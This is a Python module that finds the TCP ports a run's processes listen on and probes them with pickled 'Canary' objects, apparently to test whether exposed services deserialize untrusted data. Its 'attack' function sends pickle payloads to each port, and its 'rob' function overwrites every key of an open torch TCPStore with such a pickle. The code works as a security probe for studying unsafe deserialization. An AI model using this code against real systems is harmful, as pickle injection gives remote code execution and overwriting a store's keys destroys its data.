"""Which ports a run's processes listen at, and what strangers put there."""

import contextlib
import ipaddress
import pickle
import socket
import sys
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

_LISTENING = "0A"
_SECONDS = 1.5


@dataclass(frozen=True, order=True)
class Port:
    """A TCP socket that listens."""

    address: str
    number: int

    @property
    def is_of_this_machine_alone(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def ports_of(pids: Iterable[int]) -> set[Port]:
    """Where these processes listen, each in its own network namespace."""
    found = set()
    for pid in pids:
        with contextlib.suppress(OSError):  # it has ended
            sockets = {str(file.readlink()) for file in Path(f"/proc/{pid}/fd").iterdir()}
            for name in ("tcp", "tcp6"):
                rows = map(str.split, Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:])
                found |= {_port(row[1]) for row in rows if row[3] == _LISTENING and f"socket:[{row[9]}]" in sockets}
    return found


def _port(text: str) -> Port:
    """From the kernel's notation: 32-bit words in this machine's order, in hexadecimal."""
    address, number = text.split(":")
    content = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
    return Port(str(ipaddress.ip_address(content)), int(number, 16))


class Canary:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (self.path,)  # type: ignore[return-value]


def attack(port: Port, canary: Path) -> list[str]:
    """Send a port what would run code if anything there unpickled it, and what it cannot read; which of that was sent.

    Args:
        port: that is reached from here.
        canary: the file that the code would make.
    """
    content = pickle.dumps(Canary(canary))
    sent = []
    messages = {
        "a pickle": content,
        "a pickle after its length": len(content).to_bytes(8, "little") + content,
        "a pickle after gloo's number of a pair": (0).to_bytes(8, "little") + content,
        "a line": b"GET / HTTP/1.1\r\n\r\n",
        "nothing": b"",
    }
    for what, message in messages.items():
        with contextlib.suppress(OSError), socket.create_connection((port.address, port.number), _SECONDS) as one:
            one.sendall(message)
            sent.append(what)
    return sent


def rob(port: Port, canary: Path) -> str:
    """As who reaches a TCP store of torch, which lets everybody in: put what would run code into all that is there."""
    from torch.distributed import TCPStore  # type: ignore[attr-defined]

    content = pickle.dumps(Canary(canary))
    store: Any = TCPStore(port.address, port.number, is_master=False, timeout=timedelta(seconds=_SECONDS))
    keys = store.list_keys()
    for key in keys:
        store.set(key, content)
    return f"a pickle at each of {len(keys)} keys"


if __name__ == "__main__":
    place, *addresses = sys.argv[1:]
    for text in addresses:
        address, _, number = text.partition("=")
        where = Port(address, int(number))
        print(where, attack(where, Path(place)), flush=True)
    print(rob(where, Path(place)), flush=True)
